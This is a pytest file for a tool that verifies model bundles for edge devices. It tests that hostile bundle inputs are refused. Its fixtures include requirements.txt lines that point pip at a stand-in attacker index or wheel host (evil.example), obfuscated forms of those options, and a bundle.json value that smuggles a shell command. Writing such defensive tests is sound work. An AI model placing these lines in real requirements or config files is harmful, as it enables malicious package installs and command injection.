"""Issue 19, round two, the verify and bundle-input part.

1. ``edgekit verify BUNDLE`` said "bundle OK" for a bundle whose requirements.txt carries pip
   options (any spelling), that holds a FIFO, socket or device node, or whose bundle.json tokens
   end in a newline (``$`` matches before a trailing newline). Each is now one ``Error:`` line,
   exit 2, the bundle untouched.
2. ``verify --emulate [--index-url X]`` refuses such a bundle before any emulation starts
   (nothing is built in the rootfs cache); ``with_index_url`` never carries a bundle's own
   pip option over (checked with pip's own requirements-file parser as the reference), and
   ``ensure_venv`` refuses anything but pins before it touches the rootfs.
3. The same ``$`` bug in validators across edgekit.

``verify --emulate`` itself needs root, qemu and a rootfs: only the refusals before it starts
are run here.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import stat
import tempfile
from pathlib import Path

import pytest
from corpus.hostile import (
    assert_one_line_error,
    child_pids,
    lstat_tree,
    rehash_sums,
    rpi4_onnx_bundle,  # noqa: F401 - the bundle fixture
)
from typer.testing import CliRunner

from edgekit.cli.app import app
from edgekit.core.errors import InputFileError

runner = CliRunner()
REPO = Path(__file__).resolve().parents[2]


def hostile_copy(bundle: Path, tmp_path: Path) -> Path:
    copy = tmp_path / "dist" / "rpi4"
    shutil.copytree(bundle, copy)
    return copy


def with_requirements_line(folder: Path, line: str) -> None:
    path = folder / "requirements.txt"
    path.write_bytes(path.read_bytes() + line.encode("latin-1"))
    rehash_sums(folder)


def verify_refuses(args: list[str], folder: Path, message: str) -> None:
    """``edgekit ARGS`` ends in one ``Error:`` line with ``message``, exit 2, ``folder`` unchanged."""
    before, children = lstat_tree(folder), child_pids()
    result = runner.invoke(app, args)
    assert "bundle OK" not in result.stdout
    assert_one_line_error(result, 2, message)
    assert lstat_tree(folder) == before
    assert child_pids() - children == set()


# ---------------------------------------------------------------- 1. requirements.txt (pip options)

# Lines a hostile bundle adds to requirements.txt; pip (root, under --emulate; the user, after
# bench --host's install hint) would act on every one. None is name==version.
HOSTILE_REQUIREMENTS = {
    "index-url-equals": "--index-url=https://evil.example/simple\n",
    "index-url-space-foreign": "--index-url https://evil.example/simple\n",
    "short-i": "-i https://evil.example/simple\n",
    "short-i-glued": "-ihttps://evil.example/simple\n",
    "extra-index-url": "--extra-index-url=https://evil.example/simple\n",
    "extra-index-url-twice": "--extra-index-url https://pypi.org/simple\n--extra-index-url https://pypi.org/simple\n",
    "find-links": "-f https://evil.example/wheels/\n",
    "find-links-long": "--find-links=/tmp/evil-wheels\n",
    "trusted-host": "--trusted-host evil.example\n",
    "nested-requirements": "-r /tmp/evil-requirements.txt\n",
    "constraints": "-c constraints.txt\n",
    "editable": "-e git+https://evil.example/x.git#egg=x\n",
    "pre": "--pre\n",
    "no-binary": "--no-binary :all:\n",
    "url-requirement": "https://evil.example/numpy-2.0-py3-none-any.whl\n",
    "direct-reference": "numpy @ https://evil.example/numpy.whl\n",
    "local-path": "./numpy-2.0-py3-none-any.whl\n",
    "marker": 'protobuf==4.0; python_version >= "3"\n',
    "option-after-pin": "protobuf==4.0 --hash=sha256:" + "0" * 64 + "\n",
    "range": "protobuf>=4.0\n",
    "continuation": "protobuf==4.0 \\\n--index-url=https://evil.example/simple\n",
    "env-expansion": "protobuf==${EVIL_VERSION}\n",
    "coding-comment": "# -*- coding: utf-7 -*-\n+AC0AL-index-url+AD0-https://evil.example\n",
    "form-feed-split": "# fine\x0c--index-url=https://evil.example/simple\n",
    "nel-split": "# fine\x85--index-url=https://evil.example/simple\n",
    "pinned-twice": "numpy==1.0.0\n",
}


@pytest.mark.parametrize("case", sorted(HOSTILE_REQUIREMENTS))
def test_verify_refuses_pip_options_in_requirements(case, bundle, tmp_path):
    copy = hostile_copy(bundle, tmp_path)
    with_requirements_line(copy, HOSTILE_REQUIREMENTS[case])
    verify_refuses(["verify", str(copy)], tmp_path / "dist", "requirements.txt")


@pytest.mark.parametrize("case", ["index-url-equals", "short-i", "find-links", "continuation", "direct-reference"])
@pytest.mark.parametrize("index_url", [None, "https://pypi.org/simple"], ids=["own-index", "index-url"])
def test_verify_emulate_refuses_them_before_emulation_starts(case, index_url, bundle, tmp_path):
    copy = hostile_copy(bundle, tmp_path)
    with_requirements_line(copy, HOSTILE_REQUIREMENTS[case])
    cache = tmp_path / "rootfs-cache"
    args = ["verify", str(copy), "--emulate", "--rootfs-cache", str(cache), "--launcher", "interpreter", "--quiet"]
    verify_refuses(args + (["--index-url", index_url] if index_url else []), tmp_path / "dist", "requirements.txt")
    assert not cache.exists()  # no rootfs, no venv, no pip


# ---------------------------------------------------------------- 1. special files


def _fifo(folder: Path) -> str:
    os.mkfifo(folder / "stray.fifo")
    return "a named pipe"


def _nested_fifo(folder: Path) -> str:
    (folder / "wheels").mkdir(exist_ok=True)
    os.mkfifo(folder / "wheels" / "numpy-2.0-cp311-cp311-manylinux_2_28_aarch64.whl")
    return "a named pipe"


def _socket(folder: Path) -> str:
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.bind(str(folder / "serve.sock"))
    sock.close()
    return "a socket"


def _char_device(folder: Path) -> str:
    try:
        os.mknod(folder / "zero", 0o600 | stat.S_IFCHR, os.makedev(1, 5))  # what /dev/zero is
    except (PermissionError, OSError) as exc:
        pytest.skip(f"cannot make a device node here: {exc}")
    return "a character device"


SPECIALS = {"fifo": _fifo, "fifo-in-wheels": _nested_fifo, "socket": _socket, "char-device": _char_device}


@pytest.mark.parametrize("kind", sorted(SPECIALS))
def test_verify_refuses_special_files(kind, bundle, tmp_path):
    copy = hostile_copy(bundle, tmp_path)
    what = SPECIALS[kind](copy)
    verify_refuses(["verify", str(copy)], tmp_path / "dist", what)


# ---------------------------------------------------------------- 1. bundle.json tokens


BUNDLE_JSON = {
    "target-newline": ({"target": "rpi4\n"}, "target"),
    "variant-newline": ({"variant": "int8-static-onnx\n"}, "variant"),
    "precision-newline": ({"precision": "int8\n"}, "precision"),
    "platform-newline": ({"python_platform": "manylinux_2_28_aarch64\n"}, "python_platform"),
    "arch-newline": ({"arch": "aarch64\n"}, "arch"),
    "arch-shell": ({"arch": "aarch64;touch PWNED"}, "arch"),
    "engine-shell": ({"quantized_engine": "qnnpack --x"}, "quantized_engine"),
}


@pytest.mark.parametrize("case", sorted(BUNDLE_JSON))
def test_verify_refuses_bundle_json_tokens_with_a_trailing_newline(case, bundle, tmp_path):
    changes, key = BUNDLE_JSON[case]
    copy = hostile_copy(bundle, tmp_path)
    info = json.loads((copy / "bundle.json").read_text())
    info.update(changes)
    (copy / "bundle.json").write_text(json.dumps(info))
    rehash_sums(copy)
    verify_refuses(["verify", str(copy)], tmp_path / "dist", key)


def test_verify_emulate_refuses_a_release_name_with_a_trailing_newline(bundle, tmp_path):
    cache = tmp_path / "rootfs-cache"
    verify_refuses(["verify", str(bundle), "--emulate", "--debian-release", "bookworm\n", "--rootfs-cache", str(cache),
                    "--launcher", "interpreter", "-q"], bundle, "--debian-release")
    assert not cache.exists()


# ---------------------------------------------------------------- 2. the functions pip's input goes through


def pip_sees(text: str) -> list[tuple[str, object]]:
    """The independent reference: what pip's own requirements-file parser reads from ``text``."""
    parser_module = pytest.importorskip("pip._internal.req.req_file")
    from pip._internal.network.session import PipSession

    seen = []
    with tempfile.TemporaryDirectory() as scratch:
        path = Path(scratch) / "requirements.txt"
        path.write_text(text)
        parser = parser_module.RequirementsFileParser(PipSession(), parser_module.get_line_parser(None))
        for line in parser.parse(str(path), constraint=False):
            if line.requirement:
                seen.append(("requirement", line.requirement))
            for name, value in sorted(vars(line.opts).items() if line.opts else ()):
                if value and name not in ("format_control", "release_control"):
                    seen.append((name, value))
    return seen


@pytest.mark.parametrize("case", sorted(HOSTILE_REQUIREMENTS))
def test_with_index_url_never_carries_a_bundles_pip_option_over(case):
    from edgekit.emulate.venv import with_index_url

    text = "numpy==2.4.6\nonnxruntime==1.32.0\n" + HOSTILE_REQUIREMENTS[case]
    with pytest.raises(InputFileError) as caught:
        with_index_url(text, "https://pypi.org/simple")
    assert "requirements.txt" in str(caught.value) and "\n" not in str(caught.value)


@pytest.mark.parametrize("fmt", ["onnx", "torchscript", "executorch"])
def test_with_index_url_keeps_only_the_users_index_and_the_pins(fmt):
    """The issue's case: edgekit's own requirements.txt (for every format) plus the ``=`` spelling
    of a bundle's own index, which pip reads (and the last --index-url wins) -> refused. Without
    it, pip reads the user's index, the format's extra index at most, and the pins: nothing else."""
    from edgekit import formats
    from edgekit.bundle.requirements import Pins
    from edgekit.emulate.venv import with_index_url

    entry = formats.get(fmt)
    pins = ("numpy==2.4.6", *(f"{d}==1.0.0" for d in entry.board.requirements), f"{entry.board.runtime}==2.13.0")
    text = Pins(pins, {"name": entry.board.runtime, "version": "2.13.0"}, "manylinux_2_28_aarch64", "3.11",
                entry.board.index_url, entry.board.extra_index_url, entry.board.no_deps).text()
    evil = text + "--index-url=https://evil.example/simple\n"
    assert ("index_url", "https://evil.example/simple") in pip_sees("--index-url https://mirror.example/simple\n" + evil)
    with pytest.raises(InputFileError, match="requirements.txt line"):
        with_index_url(evil, "https://mirror.example/simple")
    replaced, old = with_index_url(text, "https://mirror.example/simple")
    assert old == entry.board.index_url
    seen = pip_sees(replaced)
    assert [value for kind, value in seen if kind == "requirement"] == list(pins)
    assert [value for kind, value in seen if kind == "index_url"] == ["https://mirror.example/simple"]
    assert {kind for kind, _ in seen} <= {"requirement", "index_url", "extra_index_urls"}
    assert [value for kind, value in seen if kind == "extra_index_urls"] == ([[entry.board.extra_index_url]] if entry.board.extra_index_url else [])


def test_ensure_venv_refuses_pip_options_before_touching_the_rootfs(tmp_path):
    from edgekit.emulate.chroot import Launcher
    from edgekit.emulate.venv import ensure_venv

    rootfs = tmp_path / "rootfs"
    (rootfs / "tmp").mkdir(parents=True)
    launcher = Launcher(rootfs=rootfs, unshare=Path(shutil.which("unshare") or "/usr/bin/unshare"), mode="interpreter",
                        qemu_cpu="cortex-a72", interpreter="/usr/bin/qemu-aarch64-static")
    before = lstat_tree(rootfs)
    for text in ("numpy==2.4.6\n--index-url=https://evil.example/simple\n", "-f /tmp/evil\nnumpy==2.4.6\n",
                 "numpy==2.4.6 \\\n--trusted-host evil.example\n"):
        with pytest.raises(InputFileError):
            ensure_venv(launcher, text, [], "3.11", timeout_s=60, progress=lambda line: None)
        assert lstat_tree(rootfs) == before


# ---------------------------------------------------------------- 3. "$" before a trailing newline, across edgekit


def _release(value):
    from edgekit.emulate.rootfs import check_release

    return check_release(value)


def _platform(value):
    from edgekit.bundle.requirements import check_platform

    return check_platform(value)


def _python_version(value):
    from edgekit.bundle.requirements import check_python_version

    return check_python_version(value)


def _wheel(value):
    from edgekit.emulate.bundle import wheel_problem

    problem = wheel_problem(value, "aarch64", "3.11")
    if problem:
        raise ValueError(problem)


def _pattern(module: str, name: str):
    def check(value):
        import importlib

        if not getattr(importlib.import_module(module), name).match(value):
            raise ValueError(f"{name} refuses {value!r}")
    return check


NEWLINE_CASES = {
    "debian-release": (_release, "bookworm"),
    "python-platform": (_platform, "manylinux_2_28_aarch64"),
    "python-version": (_python_version, "3.11"),
    "wheel-name": (_wheel, "numpy-2.0.0-cp311-cp311-manylinux_2_28_aarch64.whl"),
    "artifact-token": (_pattern("edgekit.formats.artifacts", "TOKEN"), "int8-static"),
    "artifact-model-name": (_pattern("edgekit.formats.artifacts", "MODEL_NAME"), "digits-cnn"),
    "target-name": (_pattern("edgekit.core.targets", "NAME_PATTERN"), "rpi4"),
    "target-platform": (_pattern("edgekit.core.targets", "PLATFORM_PATTERN"), "manylinux_2_28_aarch64"),
    "target-core": (_pattern("edgekit.core.targets", "CORE_PATTERN"), "Cortex-A72"),
    "reference-key": (_pattern("edgekit.formats.reference", "_KEY"), "b1/output"),
    "factory": (_pattern("edgekit.sources.model_source", "_FACTORY"), "pkg.mod:make"),
    "zoo-token": (_pattern("edgekit.models.registry", "_TOKEN"), "digits"),
    "ssh-user": (_pattern("edgekit.remote.hosts", "_USER"), "pi"),
    "ssh-option-key": (_pattern("edgekit.remote.hosts", "_OPTION_KEY"), "Port"),
    "sha256sums-line": (_pattern("edgekit.bundle.verify", "_LINE"), "0" * 64 + "  model.onnx"),
}


@pytest.mark.parametrize("case", sorted(NEWLINE_CASES))
def test_validators_refuse_a_trailing_newline(case):
    check, good = NEWLINE_CASES[case]
    check(good)  # the value itself passes
    with pytest.raises(ValueError):  # UsageError is a ValueError too
        check(good + "\n")


# Every validator is held to "\Z" / fullmatch (a pattern searched line by line with re.M is not a validator).
ELSEWHERE: set[str] = set()


def test_no_dollar_anchored_validator_is_left():
    found = []
    pattern = re.compile(r"""re\.(?:compile|match|search)\(\s*rf?(["'])\^[^"'\n]*\$\1""")
    for path in sorted((REPO / "edgekit").rglob("*.py")):
        rel = path.relative_to(REPO).as_posix()
        if rel in ELSEWHERE:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if pattern.search(line):
                found.append(f"{rel}:{number}: {line.strip()}")
    assert found == []
